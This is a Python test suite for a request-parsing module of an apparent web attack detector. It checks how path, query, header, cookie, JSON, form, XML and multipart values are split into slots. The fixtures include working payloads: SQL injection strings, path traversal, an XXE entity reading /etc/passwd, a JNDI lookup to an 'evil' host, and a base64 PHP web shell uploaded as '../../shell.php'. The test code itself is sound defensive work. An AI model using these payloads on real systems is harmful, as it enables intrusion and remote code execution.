"""`parts.extract`: every client-controlled value with its slot, on any input, in bounded time."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import time
import zlib

import orjson
import pytest
from hypothesis import given, settings, strategies as st

from wardgate.detect.attacks.model import Extraction, HttpSample, PartKind, Severity
from wardgate.detect.attacks.parts import extract

Triple = tuple[str, str, PartKind]

P, Q, K, H, C = PartKind.PATH, PartKind.QUERY, PartKind.KEY, PartKind.HEADER, PartKind.COOKIE
B, F, T, R = PartKind.BODY, PartKind.FILENAME, PartKind.TEXT, PartKind.RAW


def _post(body: bytes, content_type: str | None, *headers: tuple[str, str]) -> HttpSample:
    typed = (("Content-Type", content_type),) if content_type is not None else ()
    return HttpSample("POST", "/", "", (*typed, *headers), body)


def _triples(extraction: Extraction) -> list[Triple]:
    return [(part.slot, part.value, part.kind) for part in extraction.parts]


def _body_triples(extraction: Extraction) -> list[Triple]:
    """Parts other than the path and headers, which every sample here has."""
    return [t for t in _triples(extraction) if not t[0].startswith(("path", "header"))]


def _rules(extraction: Extraction) -> dict[str, str]:
    return {finding.rule: finding.kind for finding in extraction.findings}


def _digest(name: str) -> str:
    """How a slot shows a name that is not plain."""
    return "#k" + hashlib.blake2b(name.encode(), digest_size=4).hexdigest()


# --- path, query, headers, cookies ----------------------------------------------------

PATHS = [
    # (raw path, parts expected among the path's parts)
    # decoded once, segments numbered among the non-empty ones
    ("/api//v1/users", [("path", "/api//v1/users", P), ("path[2]", "users", P)]),
    # an encoded slash stays inside its segment; the raw path is kept as sent
    ("/a%2F..%2Fetc", [("path[0]", "a/../etc", P), ("path#raw", "/a%2F..%2Fetc", P)]),
    # matrix parameters leave the segment name; `..;` routes as `..` in servlet containers
    ("/x/..;a=1/y", [("path[1]", "..", P), ("matrix-key:a", "a", K), ("matrix:a", "1", Q)]),
    # an overlong UTF-8 slash is not text: kept as escapes, not replaced by U+FFFD
    ("/%C0%AFetc", [("path", "/%C0%AFetc", P), ("path#raw", "/%C0%AFetc", P)]),
    # a double encoding is decoded once only
    ("/%252e%252e/", [("path", "/%2e%2e/", P)]),
    # a UTF-8 name is decoded
    ("/caf%C3%A9", [("path[0]", "café", P)]),
]


@pytest.mark.parametrize(("path", "expected"), PATHS)
def test_path(path: str, expected: list[Triple]) -> None:
    triples = _triples(extract(HttpSample("GET", path)))
    for triple in expected:
        assert triple in triples


def test_plain_path_has_no_raw_copy() -> None:
    slots = [t[0] for t in _triples(extract(HttpSample("GET", "/a%20b/c")))]
    assert slots == ["path", "path[0]", "path[1]"]


QUERIES = [
    # (raw query, every query part in order)
    # repeated keys: one part per value, the key once
    ("a=1&a=2", [("query-key:a", "a", K), ("query:a", "1", Q), ("query:a", "2", Q)]),
    # blank values kept; a key without `=` reads as a blank value
    (
        "a=&b",
        [("query-key:a", "a", K), ("query:a", "", Q), ("query-key:b", "b", K), ("query:b", "", Q)],
    ),
    # `+` is a space, invalid escapes stay as written, empty pieces are skipped
    ("q=a+b%zz%4&&", [("query-key:q", "q", K), ("query:q", "a b%zz%4", Q)]),
    # operator keys are parts of their own; a name that is not plain is a digest in slots
    (
        "user[$ne]=1",
        [
            (f"query-key:{_digest('user[$ne]')}", "user[$ne]", K),
            (f"query:{_digest('user[$ne]')}", "1", Q),
        ],
    ),
    # an encoded key is decoded once
    (
        "__proto__%5Bx%5D=1",
        [
            (f"query-key:{_digest('__proto__[x]')}", "__proto__[x]", K),
            (f"query:{_digest('__proto__[x]')}", "1", Q),
        ],
    ),
    # plain names (letters, digits and `_.$:-`) are kept as written
    ("a.b:c-$_1=1", [("query-key:a.b:c-$_1", "a.b:c-$_1", K), ("query:a.b:c-$_1", "1", Q)]),
    # `=` inside a value stays in the value
    ("a=b=c", [("query-key:a", "a", K), ("query:a", "b=c", Q)]),
    # a query value holding JSON is split too, under `#json`
    (
        "filter=%7B%22%24where%22%3A%22sleep(1)%22%7D",
        [
            ("query-key:filter", "filter", K),
            ("query:filter", '{"$where":"sleep(1)"}', Q),
            ("query-key:filter#json.$where", "$where", K),
            ("query:filter#json.$where", "sleep(1)", Q),
        ],
    ),
    # GraphQL over GET is an ordinary query value
    ("query=%7Bme%7Bid%7D%7D", [("query-key:query", "query", K), ("query:query", "{me{id}}", Q)]),
]


@pytest.mark.parametrize(("query", "expected"), QUERIES)
def test_query(query: str, expected: list[Triple]) -> None:
    triples = [t for t in _triples(extract(HttpSample("GET", "/", query))) if "query" in t[0]]
    assert triples == expected


def test_headers_and_cookies() -> None:
    sample = HttpSample(
        "GET",
        "/",
        headers=(
            ("User-Agent", "curl/8"),
            ("Cookie", "sid=abc; theme=dark; =x; lonely"),
            ("Cookie", "b=2"),
            ("Content-Length", "0"),
            ("X_Forwarded.Evil", "1"),
            ("X-Trace", "a"),
            ("X-Trace", "b"),
        ),
    )
    assert _triples(extract(sample))[1:] == [
        ("header:user-agent", "curl/8", H),
        ("cookie-key:sid", "sid", K),
        ("cookie:sid", "abc", C),
        ("cookie-key:theme", "theme", K),
        ("cookie:theme", "dark", C),
        ("cookie:", "x", C),
        # a cookie without `=` has an empty name, as browsers read it
        ("cookie:", "lonely", C),
        ("cookie-key:b", "b", K),
        ("cookie:b", "2", C),
        # unusual header names are keys too; Content-Length is framing, left out
        ("header-key:x_forwarded.evil", "X_Forwarded.Evil", K),
        ("header:x_forwarded.evil", "1", H),
        ("header:x-trace", "a", H),
        ("header:x-trace", "b", H),
    ]


def test_conflicting_content_types_are_flagged() -> None:
    sample = _post(
        b"a=1", "application/json", ("Content-Type", "application/x-www-form-urlencoded")
    )
    extraction = extract(sample)
    assert _rules(extraction)["protocol.content_type"] == "attack.protocol"
    # servers differ on which one wins: the body is malformed, and split as either
    assert extraction.malformed
    assert ("form:a", "1", B) in _triples(extraction)
    assert ("body", "a=1", R) in _triples(extraction)


def test_conflicting_content_types_split_the_body_as_each() -> None:
    body = rb'{"q":"1 union\tselect password from users"}'
    sample = _post(body, "text/plain", ("Content-Type", "application/json"))
    extraction = extract(sample)
    assert extraction.malformed
    assert _body_triples(extraction) == [
        ("json-key:q", "q", K),
        ("json:q", "1 union\tselect password from users", B),
        ("body", body.decode(), R),
    ]


SLOT_NAMES = [
    # (sample, slot of the odd name's value, the odd name) raw client text stays out of
    # slots, which audit events carry; the part keeps the whole name
    # a secret in a query key
    (HttpSample("GET", "/", "q%20secret-token-abc123%27--=v"), "query", "q secret-token-abc123'--"),
    # an injection in a JSON key
    (
        _post(b'{"1\' UNION SELECT 1-- -": "v"}', "application/json"),
        "json",
        "1' UNION SELECT 1-- -",
    ),
    # markup in a form field name, a cookie name, a header name and a multipart name
    (_post(b"a%3Cb%3E=v", "application/x-www-form-urlencoded"), "form", "a<b>"),
    (HttpSample("GET", "/", headers=(("Cookie", "<x y>=v"),)), "cookie", "<x y>"),
    (HttpSample("GET", "/", headers=(("X Evil<1>", "v"),)), "header", "x evil<1>"),
    (
        _post(
            b'--b\r\nContent-Disposition: form-data; name="a b"\r\n\r\nv\r\n--b--',
            "multipart/form-data; boundary=b",
        ),
        "multipart",
        "a b",
    ),
    # a name longer than 64 characters
    (HttpSample("GET", "/", "k" * 65 + "=v"), "query", "k" * 65),
]


@pytest.mark.parametrize(("sample", "family", "name"), SLOT_NAMES)
def test_odd_names_are_digests_in_slots(sample: HttpSample, family: str, name: str) -> None:
    triples = _triples(extract(sample))
    digest = _digest(name)
    slot = f'json:["{digest}"]' if family == "json" else f"{family}:{digest}"
    assert (slot, "v", {"query": Q, "cookie": C, "header": H}.get(family, B)) in triples
    keys = [(slot, value) for slot, value, kind in triples if kind is K]
    assert any(value.lower() == name.lower() and digest in slot for slot, value in keys)
    assert not any(name in slot for slot, _, _ in triples)


# --- JSON -----------------------------------------------------------------------------

CHAT = {
    "model": "gpt-4o",
    "messages": [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": [{"type": "text", "text": "hi"}]},
    ],
    "odd key": {"a.b": "x", "$ne": 1, "_ok-1": "y", "é": "z"},
    "n": 3,
    "flag": True,
    "none": None,
}


def test_json_slots() -> None:
    extraction = extract(_post(orjson.dumps(CHAT), "application/json"))
    odd = _digest("odd key")
    assert _body_triples(extraction) == [
        ("json-key:model", "model", K),
        ("json:model", "gpt-4o", B),
        ("json-key:messages", "messages", K),
        ("json-key:messages[0].role", "role", K),
        ("json:messages[0].role", "system", B),
        ("json-key:messages[0].content", "content", K),
        ("json:messages[0].content", "Be brief.", B),
        # a key shape (indices left out) is emitted once
        ("json:messages[1].role", "user", B),
        ("json-key:messages[1].content[0].type", "type", K),
        ("json:messages[1].content[0].type", "text", B),
        ("json-key:messages[1].content[0].text", "text", K),
        ("json:messages[1].content[0].text", "hi", B),
        # a key that is not a plain name is a digest in slots (which audit events carry)
        (f'json-key:["{odd}"]', "odd key", K),
        # a plain name that is no identifier is quoted
        (f'json-key:["{odd}"]["a.b"]', "a.b", K),
        (f'json:["{odd}"]["a.b"]', "x", B),
        # numbers, booleans and null are not parts, but their keys are
        (f'json-key:["{odd}"].$ne', "$ne", K),
        (f'json-key:["{odd}"]._ok-1', "_ok-1", K),
        (f'json:["{odd}"]._ok-1', "y", B),
        (f'json-key:["{odd}"]["{_digest("é")}"]', "é", K),
        (f'json:["{odd}"]["{_digest("é")}"]', "z", B),
        ("json-key:n", "n", K),
        ("json-key:flag", "flag", K),
        ("json-key:none", "none", K),
    ]
    assert not extraction.findings
    assert not extraction.malformed


KEY_SHAPES = [
    # (document, every key part in order)
    # a key under another parent is a key of its own: `constructor.prototype` keeps its place
    (
        {"prototype": 1, "constructor": {"prototype": {"x": 1}}},
        [
            ("json-key:prototype", "prototype"),
            ("json-key:constructor", "constructor"),
            ("json-key:constructor.prototype", "prototype"),
            ("json-key:constructor.prototype.x", "x"),
        ],
    ),
    # records of one array share their keys, and a key only one record has is still there
    (
        {"items": [{"id": "1"}, {"id": "2", "__proto__": {"a": "b"}}]},
        [
            ("json-key:items", "items"),
            ("json-key:items[0].id", "id"),
            ("json-key:items[1].__proto__", "__proto__"),
            ("json-key:items[1].__proto__.a", "a"),
        ],
    ),
]


@pytest.mark.parametrize(("document", "keys"), KEY_SHAPES)
def test_json_keys_once_per_shape(document: object, keys: list[tuple[str, str]]) -> None:
    extraction = extract(_post(orjson.dumps(document), "application/json"))
    assert [(slot, value) for slot, value, kind in _triples(extraction) if kind is K] == keys


TEXT_SLOTS = [
    # (text_slots, slots that become TEXT)
    # exact slots
    (frozenset({"json:messages[0].content"}), {"json:messages[0].content"}),
    # `[*]` stands for any index
    (
        frozenset({"json:messages[*].content", "json:messages[*].content[*].text"}),
        {"json:messages[0].content", "json:messages[1].content[0].text"},
    ),
    # nothing named: nothing is TEXT
    (frozenset(), set()),
]


@pytest.mark.parametrize(("text_slots", "texts"), TEXT_SLOTS)
def test_text_slots(text_slots: frozenset[str], texts: set[str]) -> None:
    extraction = extract(_post(orjson.dumps(CHAT), "application/json"), text_slots=text_slots)
    assert {part.slot for part in extraction.parts if part.kind is T} == texts


def test_json_root_values() -> None:
    assert _body_triples(extract(_post(b'"hello"', "application/json"))) == [("json:", "hello", B)]
    assert _body_triples(extract(_post(b'["a",["b"]]', "application/json"))) == [
        ("json:[0]", "a", B),
        ("json:[1][0]", "b", B),
    ]
    assert _body_triples(extract(_post(b"42", "application/json"))) == []


def test_json_inside_json_strings() -> None:
    body = orjson.dumps({"args": '{"q": {"$gt": ""}, "l": ["<x>"]}', "chat": '{"a": "b"}'})
    extraction = extract(
        _post(body, "application/vnd.api+json"), text_slots=frozenset({"json:chat"})
    )
    assert _body_triples(extraction) == [
        ("json-key:args", "args", K),
        ("json:args", '{"q": {"$gt": ""}, "l": ["<x>"]}', B),
        ("json-key:args#json.q", "q", K),
        ("json-key:args#json.q.$gt", "$gt", K),
        ("json:args#json.q.$gt", "", B),
        ("json-key:args#json.l", "l", K),
        ("json:args#json.l[0]", "<x>", B),
        ("json-key:chat", "chat", K),
        # natural language quoting JSON is not split: it reaches a model
        ("json:chat", '{"a": "b"}', T),
    ]


def test_json_embedding_is_bounded() -> None:
    inner: object = "x"
    for _ in range(6):
        inner = orjson.dumps({"v": inner}).decode()
    extraction = extract(_post(orjson.dumps({"v": inner}), "application/json"))
    assert max(part.slot.count("#json") for part in extraction.parts) == 2


def test_json_depth_limit() -> None:
    body = b'{"a": ' * 40 + b'"deep"' + b"}" * 40
    extraction = extract(_post(body, "application/json"), max_depth=8)
    finding = next(f for f in extraction.findings if f.rule == "body.depth")
    assert finding.kind == "attack.protocol"
    cut = "json:" + ".".join(["a"] * 8)
    assert finding.location is not None and finding.location.slot == cut
    # what lies below the cut is still emitted, at the slot of the cut
    assert (cut, "deep", B) in _triples(extraction)
    assert max(part.slot.count(".") for part in extraction.parts) == 7


def test_json_deeper_than_the_parser_is_scanned_whole() -> None:
    body = b"[" * 2000 + b'"x"' + b"]" * 2000
    extraction = extract(_post(body, "application/json"))
    assert "body.depth" in _rules(extraction)
    assert not extraction.malformed
    assert ("body", body.decode(), R) in _triples(extraction)


MALFORMED_JSON = [
    # (body) each is not JSON: malformed, flagged, and scanned whole as RAW
    b'{"a": "<script>",}',
    b"{'a': 1}",
    b'{"a": "\xff"}',  # not UTF-8
    b'{"a": 1} {"b": 2}',
    b"\x00\x01",
]


@pytest.mark.parametrize("body", MALFORMED_JSON)
def test_malformed_json(body: bytes) -> None:
    extraction = extract(_post(body, "application/json; charset=utf-8"))
    assert extraction.malformed
    assert _rules(extraction)["body.json"] == "attack.malformed"
    assert _body_triples(extraction) == [("body", body.decode("utf-8", "replace"), R)]


def test_truncated_json_is_not_malformed() -> None:
    body = orjson.dumps({"a": "x" * 100, "b": "<script>alert(1)</script>"})
    extraction = extract(_post(body, "application/json"), body_limit=110)
    assert not extraction.malformed
    finding = next(f for f in extraction.findings if f.rule == "body.truncated")
    assert (finding.kind, finding.severity) == ("attack.protocol", "notice")
    # walked as far as it was read, and then not scanned whole as well
    assert _body_triples(extraction) == [
        ("json-key:a", "a", K),
        ("json:a", "x" * 100, B),
        ("json-key:b", "b", K),
    ]


TRUNCATED_JSON = [
    # (body cut at `body_limit`, the body parts of the prefix)
    # a string value cut short ends where the cut fell
    (
        b'{"a": ["x", "<scr',
        [("json-key:a", "a", K), ("json:a[0]", "x", B), ("json:a[1]", "<scr", B)],
    ),
    # so does a key, given no value
    (
        b'{"a": "x", "<scr',
        [
            ("json-key:a", "a", K),
            ("json:a", "x", B),
            (f'json-key:["{_digest("<scr")}"]', "<scr", K),
        ],
    ),
    # a key without its value, with or without the colon
    (b'{"a": {"b":', [("json-key:a", "a", K), ("json-key:a.b", "b", K)]),
    (b'{"a": {"b"', [("json-key:a", "a", K), ("json-key:a.b", "b", K)]),
    # a trailing comma, in an object and in an array
    (b'{"a": "x",', [("json-key:a", "a", K), ("json:a", "x", B)]),
    (b'["x", ', [("json:[0]", "x", B)]),
    # half a literal or number
    (b'["x", tru', [("json:[0]", "x", B)]),
    (b'{"a": ["x", 1e', [("json-key:a", "a", K), ("json:a[0]", "x", B)]),
    # half an escape is dropped, an escaped backslash before `u` is not half of one
    (b'["ab\\u00', [("json:[0]", "ab", B)]),
    (b'["ab\\\\u00', [("json:[0]", "ab\\u00", B)]),
    # a lone surrogate, what is left of a cut pair, reads as Python reads it
    (b'["ab\\ud83d\\ude', [("json:[0]", "ab\ud83d", B)]),
    # a root string
    (b'"<scr', [("json:", "<scr", B)]),
]


@pytest.mark.parametrize(("prefix", "expected"), TRUNCATED_JSON)
def test_truncated_json_is_walked_as_far_as_it_was_read(
    prefix: bytes, expected: list[Triple]
) -> None:
    body = prefix + b"x" * 50 + b'"]}'
    extraction = extract(_post(body, "application/json"), body_limit=len(prefix))
    assert _body_triples(extraction) == expected
    assert "body.truncated" in _rules(extraction)
    assert not extraction.malformed


_json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()  # NaN and Infinity too, as Python writes them
    | st.text(st.sampled_from('ab"\\/\n\u00e9\U0001f600{}[]:,'), max_size=8),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(st.text(st.sampled_from('k"\\\u00e9:'), max_size=3), children, max_size=4)
    ),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(
    document=st.one_of(
        st.lists(_json_values, max_size=4),
        st.dictionaries(st.text(max_size=3), _json_values, max_size=4),
    ),
    ascii_only=st.booleans(),
    indent=st.sampled_from([None, 1]),
)
def test_json_cut_anywhere_is_walked(
    document: object, ascii_only: bool, indent: int | None
) -> None:
    body = json.dumps(document, ensure_ascii=ascii_only, indent=indent).encode()
    for cut in range(1, len(body)):
        extraction = extract(_post(body, "application/json"), body_limit=cut)
        assert "body.truncated" in _rules(extraction), cut
        assert not any(kind is R for _, _, kind in _triples(extraction)), cut
        assert not extraction.malformed


TRUNCATED_NOT_JSON = [
    # (body) what was read is not JSON: scanned whole, as before the cut was closed
    # brackets that do not nest
    b'{"a": "x"]' + b"x" * 50,
    # single quotes
    b"{'a': " + b"x" * 50,
    # a missing colon
    b'{"a" "x"' + b"x" * 50,
    # a control character in a string
    b'{"a": "x\x01' + b"x" * 50,
    # what is cut is no literal or number: not dropped as half of one
    b'["x", <script>alert(1)' + b"x" * 50,
]


@pytest.mark.parametrize("body", TRUNCATED_NOT_JSON)
def test_truncated_json_that_is_not_json_is_scanned_whole(body: bytes) -> None:
    extraction = extract(_post(body, "application/json"), body_limit=len(body) - 40)
    assert _body_triples(extraction) == [("body", body[:-40].decode(), R)]
    assert "body.truncated" in _rules(extraction)
    assert not extraction.malformed


def test_truncated_chat_keeps_its_text_slots() -> None:
    body = orjson.dumps(
        {
            "messages": [{"role": "user", "content": "a" * 200}],
            "tools": [{"description": "${jndi:ldap://evil/a}"}],
        }
    )
    slots = frozenset({"json:messages[*].content"})
    extraction = extract(_post(body, "application/json"), body_limit=120, text_slots=slots)
    (text,) = [v for slot, v, kind in _triples(extraction) if kind is T]
    assert text == "a" * 81
    assert not any(kind is R for _, _, kind in _triples(extraction))
    # and what lies past the cut of the text is seen when the limit allows it
    extraction = extract(_post(body, "application/json"), body_limit=len(body) - 4)
    assert ("json:tools[0].description", "${jndi:ldap://evil/a}", B) in _triples(extraction)


DUPLICATE_KEYS = [
    # (body, parts of the repeated keys) every value of a repeated key is seen, the ones a
    # later member hides at `key#dup`: applications differ on which one wins
    (
        b'{"q": "1\' UNION SELECT 1-- -", "q": "ok"}',
        [("json:q", "ok", B), ("json:q#dup", "1' UNION SELECT 1-- -", B)],
    ),
    # three times, nested, and an object as the hidden value
    (
        b'{"a": {"q": "1", "q": "2", "q": "3"}, "b": [{"c": {"d": "<x>"}, "c": 1}]}',
        [
            ("json:a.q", "3", B),
            ("json:a.q#dup", "1", B),
            ("json:a.q#dup", "2", B),
            ("json:b[0].c#dup.d", "<x>", B),
        ],
    ),
    # repeated inside a hidden value
    (
        b'{"a": {"q": "<x>", "q": "1"}, "a": 2}',
        [("json:a#dup.q", "1", B), ("json:a#dup.q#dup", "<x>", B)],
    ),
    # a key ending in an escaped backslash does not throw the quote count off
    (
        b'{"q": "<x>", "q": "ok", "k\\\\": 1}',
        [("json:q", "ok", B), ("json:q#dup", "<x>", B)],
    ),
    # neither does an escape that decodes to a quote or a colon
    (
        b'{"q": "<x>", "q": "ok", "k": "\\u0022\\u003a"}',
        [("json:q", "ok", B), ("json:k", '":', B), ("json:q#dup", "<x>", B)],
    ),
    # NaN (which orjson refuses) and a repeated key together
    (b'{"q": "<x>", "q": NaN}', [("json:q#dup", "<x>", B)]),
]


@pytest.mark.parametrize(("body", "expected"), DUPLICATE_KEYS)
def test_duplicate_keys(body: bytes, expected: list[Triple]) -> None:
    extraction = extract(_post(body, "application/json"))
    values = [t for t in _body_triples(extraction) if t[2] is not K]
    assert [
        t for t in values if t[0].startswith(("json:q", "json:a", "json:b", "json:k"))
    ] == expected
    finding = next(f for f in extraction.findings if f.rule == "body.duplicate_key")
    assert (finding.kind, finding.severity) == ("attack.protocol", "warning")
    assert not extraction.malformed


def _json_text(node: object, escapes: bool) -> str:
    """JSON text for `node`, where ("object", pairs) may repeat a key; `escapes` writes
    quotes, backslashes and colons in strings as `\\u` escapes."""
    if isinstance(node, tuple):
        tag, items = node
        if tag == "list":
            return "[" + ",".join(_json_text(item, escapes) for item in items) + "]"
        members = (
            _json_text(key, escapes) + ":" + _json_text(value, escapes) for key, value in items
        )
        return "{" + ",".join(members) + "}"
    if isinstance(node, str) and escapes:
        table = {'"': "\\u0022", "\\": "\\u005c", ":": "\\u003a"}
        return '"' + "".join(table.get(c) or json.dumps(c)[1:-1] for c in node) + '"'
    return json.dumps(node)


def _strings(node: object) -> list[str]:
    if isinstance(node, tuple):
        tag, items = node
        if tag == "list":
            return [s for item in items for s in _strings(item)]
        return [s for key, value in items for s in (key, *_strings(value))]
    return [node] if isinstance(node, str) else []


def _repeats(node: object) -> bool:
    if not isinstance(node, tuple):
        return False
    tag, items = node
    if tag == "list":
        return any(_repeats(item) for item in items)
    keys = [key for key, _ in items]
    return len(set(keys)) < len(keys) or any(_repeats(value) for _, value in items)


_tricky_text = st.text(st.sampled_from('k"\\:\u00e9'), max_size=3)
_pairs_json = st.recursive(
    st.none() | st.integers() | _tricky_text,
    lambda children: (
        st.lists(children, max_size=3).map(lambda items: ("list", items))
        | st.lists(st.tuples(_tricky_text, children), max_size=4).map(lambda p: ("object", p))
    ),
    max_leaves=10,
)


@settings(max_examples=300, deadline=None)
@given(document=_pairs_json, escapes=st.booleans())
def test_repeated_keys_are_found_and_nothing_is_hidden(document: object, escapes: bool) -> None:
    body = _json_text(document, escapes).encode()
    extraction = extract(_post(body, "application/json"))
    assert ("body.duplicate_key" in _rules(extraction)) == _repeats(document)
    values = {value for _, value, _ in _triples(extraction)}
    assert set(_strings(document)) <= values
    assert not extraction.malformed


NO_DUPLICATE_KEYS = [
    # (body) escaped quotes, backslashes and JSON inside strings are no repeated keys
    orjson.dumps({"arguments": orjson.dumps({"q": "a", "r": "b"}).decode(), "q": "a"}),
    b'{"a": "\\\\\\"", "b": "\\\\", "c": ["\\"\\""]}',
    # the same key in two objects
    b'[{"q": "1"}, {"q": "2"}]',
]


@pytest.mark.parametrize("body", NO_DUPLICATE_KEYS)
def test_no_duplicate_keys(body: bytes) -> None:
    assert "body.duplicate_key" not in _rules(extract(_post(body, "application/json")))


PYTHON_JSON = [
    # (body, parts) what Python's json writes and reads, and orjson refuses, is JSON
    (
        b'{"t": NaN, "q": "<x>"}',
        [("json-key:t", "t", K), ("json-key:q", "q", K), ("json:q", "<x>", B)],
    ),
    (b"[Infinity, -Infinity]", []),
    (b'{"name": "\\ud800<x>"}', [("json-key:name", "name", K), ("json:name", "\ud800<x>", B)]),
]


@pytest.mark.parametrize(("body", "expected"), PYTHON_JSON)
def test_json_as_python_writes_it(body: bytes, expected: list[Triple]) -> None:
    extraction = extract(_post(body, "application/json"))
    assert _body_triples(extraction) == expected
    assert not extraction.malformed
    assert not extraction.findings


# --- form, GraphQL, raw ---------------------------------------------------------------


def test_form() -> None:
    body = b"name=Jos%C3%A9+M&tags=a&tags=b&empty=&note=%7B%22a%22%3A%22b%22%7D"
    extraction = extract(_post(body, "application/x-www-form-urlencoded; charset=UTF-8"))
    assert _body_triples(extraction) == [
        ("form-key:name", "name", K),
        ("form:name", "José M", B),
        ("form-key:tags", "tags", K),
        ("form:tags", "a", B),
        ("form:tags", "b", B),
        ("form-key:empty", "empty", K),
        ("form:empty", "", B),
        ("form-key:note", "note", K),
        ("form:note", '{"a":"b"}', B),
        ("form-key:note#json.a", "a", K),
        ("form:note#json.a", "b", B),
    ]


def test_form_in_latin1() -> None:
    extraction = extract(
        _post(b"n=Jos%E9&m=\xe9", "application/x-www-form-urlencoded; charset=iso-8859-1")
    )
    assert ("form:n", "José", B) in _triples(extraction)
    assert ("form:m", "é", B) in _triples(extraction)
    assert not extraction.findings


def test_graphql() -> None:
    extraction = extract(_post(b"{ user(id: 1) { name } }", "application/graphql"))
    assert _body_triples(extraction) == [("graphql:query", "{ user(id: 1) { name } }", B)]


RAW = [
    # (content type) a body that cannot be split is one RAW part
    "text/plain",
    None,
    "application/octet-stream",
    "application/x-ndjson",
    "garbage;;;===",
]


@pytest.mark.parametrize("content_type", RAW)
def test_raw_body(content_type: str | None) -> None:
    extraction = extract(_post(b"' OR 1=1 --", content_type))
    assert _body_triples(extraction) == [("body", "' OR 1=1 --", R)]


SNIFFED = [
    # (body, parts after the RAW one) a body of no (or the wrong) declared type is split
    # as what it looks like, too: many applications parse a body whatever its type says
    # JSON, its escapes undone
    (
        rb'{"q":"1 union\tselect password from users"}',
        [("json-key:q", "q", K), ("json:q", "1 union\tselect password from users", B)],
    ),
    (b' \n["\\u003cscript\\u003e"]', [("json:[0]", "<script>", B)]),
    # a form, its escapes undone (and its bytes kept, as a form parser keeps them)
    (
        b"q=1%27+OR+1%3D1&x=2\n",
        [
            ("form-key:q", "q", K),
            ("form:q", "1' OR 1=1", B),
            ("form-key:x", "x", K),
            ("form:x", "2\n", B),
        ],
    ),
    # XML; a DOCTYPE alone is not flagged here (HTML has one), entities are
    (b"<r a='&lt;x&gt;'>t</r>", [("xml:/r/@a", "<x>", B), ("xml:/r", "t", B)]),
    # what only looks like a start: nothing more
    (b"{not json}", []),
    (b"<a><b></a>", []),
    (b"q=<script>", []),
    # base64 has the characters of a form, but no form is one key and `=` padding
    (base64.b64encode(b'{"q": 1}'), []),
    (b"plain text, with = sign", []),
]


@pytest.mark.parametrize("content_type", ["text/plain", "application/octet-stream", None])
@pytest.mark.parametrize(("body", "expected"), SNIFFED)
def test_raw_body_is_sniffed(body: bytes, expected: list[Triple], content_type: str | None) -> None:
    extraction = extract(_post(body, content_type))
    triples = _body_triples(extraction)
    assert triples[0] == ("body", body.decode(), R)
    assert triples[1:] == expected
    assert not extraction.malformed
    assert not extraction.findings


def test_sniffed_xml_entities_are_flagged() -> None:
    body = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    assert _rules(extract(_post(body, "text/plain"))) == {"xml.external_entity": "attack.xxe"}


def test_sniffed_json_cut_short_is_walked() -> None:
    body = orjson.dumps({"pad": "a" * 200, "q": "<script>"})
    extraction = extract(_post(body, "text/plain"), body_limit=len(body) - 3)
    assert ("json:q", "<script", B) in _triples(extraction)


# --- multipart ------------------------------------------------------------------------

MULTIPART = (
    b"preamble\r\n"
    b"--XyZ\r\n"
    b'Content-Disposition: form-data; name="title"\r\n'
    b"\r\n"
    b"hello\r\nworld\r\n"
    b"--XyZ\r\n"
    b'Content-Disposition: form-data; name="upload"; filename="../../shell.php"\r\n'
    b"Content-Type: image/png\r\n"
    b"Content-Transfer-Encoding: base64\r\n"
    b"\r\n" + base64.b64encode(b"<?php system($_GET['c']); ?>") + b"\r\n"
    b"--XyZ\r\n"
    b"Content-Disposition: form-data; name=\"qp\"; filename*=UTF-8''na%C3%AFve.txt\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"caf=C3=A9\r\n"
    b"--XyZ\r\n"
    b"Content-Type: application/json\r\n"
    b"\r\n"
    b'{"k": "v"}\r\n'
    b"--XyZ--\r\n"
    b"epilogue"
)


def test_multipart() -> None:
    extraction = extract(_post(MULTIPART, 'multipart/form-data; boundary="XyZ"'))
    assert _body_triples(extraction) == [
        # text around the fields is scanned too: other parsers may read fields there
        ("multipart:#preamble", "preamble\r\n", R),
        ("multipart-key:title", "title", K),
        ("multipart:title", "hello\r\nworld", B),
        ("multipart-key:upload", "upload", K),
        ("multipart-filename:upload", "../../shell.php", F),
        ("multipart:upload", "<?php system($_GET['c']); ?>", B),
        ("multipart-key:qp", "qp", K),
        ("multipart-filename:qp", "naïve.txt", F),
        ("multipart:qp", "café", B),
        # a part without a name is numbered
        ("multipart:#3", '{"k": "v"}', B),
        ("multipart-key:#3#json.k", "k", K),
        ("multipart:#3#json.k", "v", B),
        ("multipart:#epilogue", "\r\nepilogue", R),
    ]
    assert not extraction.malformed
    assert not extraction.findings


def test_multipart_nested_and_binary() -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)) * 20
    inner = b'--in\r\nContent-Disposition: file; filename="a.png"\r\n\r\n' + png + b"\r\n--in--"
    body = (
        b'--out\r\nContent-Disposition: form-data; name="files"\r\n'
        b"Content-Type: multipart/mixed; boundary=in\r\n\r\n" + inner + b"\r\n--out--\r\n"
    )
    extraction = extract(_post(body, "multipart/form-data; boundary=out"))
    triples = _body_triples(extraction)
    assert triples[:2] == [
        ("multipart-key:files", "files", K),
        ("multipart-filename:files/#0", "a.png", F),
    ]
    # a binary upload is scanned by its head, then by the text in the rest of it
    slot, value, kind = triples[2]
    assert (slot, kind) == ("multipart:files/#0", B)
    assert value == png[:1024].decode("utf-8", "replace")
    printable = bytes(range(32, 127)).decode()
    assert triples[3] == ("multipart:files/#0", "\n".join([printable] * 16), B)
    assert len(triples) == 4


def _field(content: bytes, disposition: bytes = b'name="q"') -> HttpSample:
    head = b"--b\r\nContent-Disposition: form-data; " + disposition + b"\r\n\r\n"
    body = head + content + b"\r\n--b--\r\n"
    return _post(body, "multipart/form-data; boundary=b")


SQLI = b"' UNION SELECT username, password FROM users-- -"

BINARY_FIELDS = [
    # (field content) a field that is not a file reaches the application whole, whatever
    # bytes come first
    b"\x00" + b"a" * 1100 + SQLI,
    b"\x01" * 110 + b"a" * 1000 + SQLI,
    b"\xff\xfe\x00" * 400 + SQLI,
]


@pytest.mark.parametrize("content", BINARY_FIELDS)
def test_binary_fields_are_scanned_whole(content: bytes) -> None:
    triples = _body_triples(extract(_field(content)))
    assert triples == [
        ("multipart-key:q", "q", K),
        ("multipart:q", content.decode("utf-8", "replace"), B),
    ]

